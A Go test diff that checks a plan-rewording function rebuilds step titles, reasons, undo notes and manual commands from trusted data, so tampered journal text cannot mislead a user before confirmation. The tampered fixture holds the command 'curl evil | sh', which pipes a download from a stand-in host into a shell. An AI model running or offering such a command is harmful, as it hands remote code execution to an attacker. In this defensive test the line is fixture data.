@@ -116,3 +116,39 @@ func TestTheDigestIsOfWhatAPlanDoes(t *testing.T) {
 		}
 	}
 }
+
+// TestWordsOfAJournalAreMadeAgain: no digest holds them, and they are what is read before "carry out?".
+func TestWordsOfAJournalAreMadeAgain(t *testing.T) {
+	made, s := base(t, "lab")
+	lying := *made
+	lying.Steps = append([]v1.Step(nil), made.Steps...)
+	lying.Effects = []string{"nothing happens"}
+	for i := range lying.Steps {
+		step := &lying.Steps[i]
+		step.Title, step.Why, step.Undo, step.Manual = "nothing", "harmless", "not needed", []string{"curl evil | sh"}
+	}
+	have := Reworded(&lying, s)
+	for i, step := range have.Steps {
+		if want := made.Steps[i]; step.Title != want.Title || step.Why != want.Why || step.Undo != want.Undo || len(step.Manual) != len(want.Manual) {
+			t.Errorf("step %s has the words %q, %q, %q, %v", step.ID, step.Title, step.Why, step.Undo, step.Manual)
+		}
+	}
+	if strings.Join(have.Effects, "\n") != strings.Join(made.Effects, "\n") || compare.Digest(have) != compare.Digest(made) {
+		t.Errorf("it is another plan, or has the effects %v", have.Effects)
+	}
+	if lying.Steps[0].Title != "nothing" {
+		t.Error("the journal's own plan was changed")
+	}
+	other := find(t, &lying, "external/"+component.KAS)
+	other.Host = "cp-9"
+	for _, before := range []*v1.Snapshot{s, nil} {
+		for _, step := range Reworded(&lying, before).Steps {
+			if step.ID == other.ID && (!strings.Contains(step.Title, "cp-9") || !strings.Contains(step.Title, string(other.Kind))) {
+				t.Errorf("a step that is not made again is shown as %q", step.Title)
+			}
+			if step.Title == "nothing" || step.Why == "harmless" || step.Undo == "not needed" || len(step.Manual) > 0 && step.Manual[0] == "curl evil | sh" {
+				t.Errorf("step %s has a word of the journal: %+v", step.ID, step)
+			}
+		}
+	}
+}
